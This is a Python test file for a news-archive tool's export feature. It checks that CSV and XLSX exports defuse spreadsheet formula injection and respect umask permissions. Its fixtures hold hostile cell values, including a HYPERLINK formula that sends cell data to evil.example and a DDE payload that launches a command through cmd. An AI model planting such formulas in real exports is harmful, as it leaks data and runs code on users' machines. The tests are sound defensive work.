"""Exports are safe to open in a spreadsheet: no cell becomes a formula, files get the umask's
permissions. Hostile cells come from archived text (titles, bylines, evidence sentences)."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import UTC, datetime

import pytest

from newsbot.archive import Archive
from newsbot.cli import main
from newsbot.export import FORMULA_STARTS
from newsbot.items import Article

# Titles as a hostile site might publish them, in Hindi with matras, nukta, virama, anusvara,
# chandrabindu, ZWJ/ZWNJ and Devanagari digits.
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"ज़िला पंचायत की बैठक")',
    "+१२३४ करोड़ की योजना पर सवाल",
    "-2+3 अंक से जीती कँवरपुर की टीम",
    "@SUM(A1:A9) क्षेत्र की सड़कें",
    "\tटैब से शुरू: श्री\u200dमती की ख़बर",
    "\rकैरिज रिटर्न: क्\u200cष समाचार",
]
PLAIN_TITLE = "सोनपुर में संगठन की बैठक"


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("NEWSBOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)
    with Archive.in_dir(tmp_path / "data") as archive:
        for day, title in enumerate([PLAIN_TITLE, *HOSTILE_TITLES], start=1):
            archive.upsert_article(Article(
                url=f"http://127.0.0.1:9/a/{day}/", canonical_url=f"http://127.0.0.1:9/a/{day}/",
                site="kasba", title=title, author="=cmd|' /C calc'!A0" if day == 2 else "राजेश तिवारी",
                # The evidence sentence starts with "+" after the danda.
                text="सोनपुर। +बैठक में श्रीमती सविता गुप्ता को भाजपा महिला मोर्चा की मंडल अध्यक्ष बनाया गया।",
                published=datetime(2026, 10, day, 4, 30, tzinfo=UTC), is_article=True))
    return tmp_path


def export(home, kind: str, fmt: str, name: str) -> bytes:
    assert main(["export", kind, "--format", fmt, "-o", name]) == 0
    return (home / name).read_bytes()


def test_csv_cells_that_start_a_formula_are_quoted(home, capsys):
    raw = export(home, "articles", "csv", "articles.csv")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    titles = [row["title"] for row in rows]
    assert titles == [PLAIN_TITLE, *("'" + title for title in HOSTILE_TITLES)]
    assert rows[1]["author"] == "'=cmd|' /C calc'!A0" and rows[0]["author"] == "राजेश तिवारी"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    rows = list(csv.DictReader(io.StringIO(export(home, "appointments", "csv", "roles.csv").decode("utf-8-sig"),
                                           newline="")))
    assert rows and all(row["evidence"].startswith("'+बैठक में श्रीमती सविता गुप्ता") for row in rows)
    assert {row["person"] for row in rows} == {"सविता गुप्ता"}


def test_jsonl_keeps_the_text_as_it_is(home, capsys):
    import json

    records = [json.loads(line) for line in export(home, "articles", "jsonl", "a.jsonl").decode().splitlines()]
    assert [record["title"] for record in records] == [PLAIN_TITLE, *HOSTILE_TITLES]


def test_xlsx_text_is_never_a_formula(home, capsys):
    openpyxl = pytest.importorskip("openpyxl")
    export(home, "articles", "xlsx", "articles.xlsx")
    sheet = openpyxl.load_workbook(home / "articles.xlsx").active
    column = [cell for cell in next(sheet.iter_cols(min_col=3, max_col=3, min_row=2))]
    assert [cell.value for cell in column] == [PLAIN_TITLE, *HOSTILE_TITLES]
    assert {cell.data_type for cell in column} == {"s"}
    assert [cell.quotePrefix for cell in column] == [False] + [True] * len(HOSTILE_TITLES)
    assert sheet["E3"].value == "=cmd|' /C calc'!A0" and sheet["E3"].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_file_gets_the_umask_permissions(home, capsys, umask, fmt):
    if fmt == "xlsx":
        pytest.importorskip("openpyxl")
    old = os.umask(umask)
    try:
        assert main(["export", "people", "--format", fmt, "-o", f"people.{fmt}"]) == 0
        # --force replaces the file by a new one: the umask decides again.
        assert main(["export", "people", "--format", fmt, "-o", f"people.{fmt}", "--force"]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((home / f"people.{fmt}").stat().st_mode) == 0o666 & ~umask
    assert [path.name for path in home.iterdir() if path.name.startswith(".")] == []
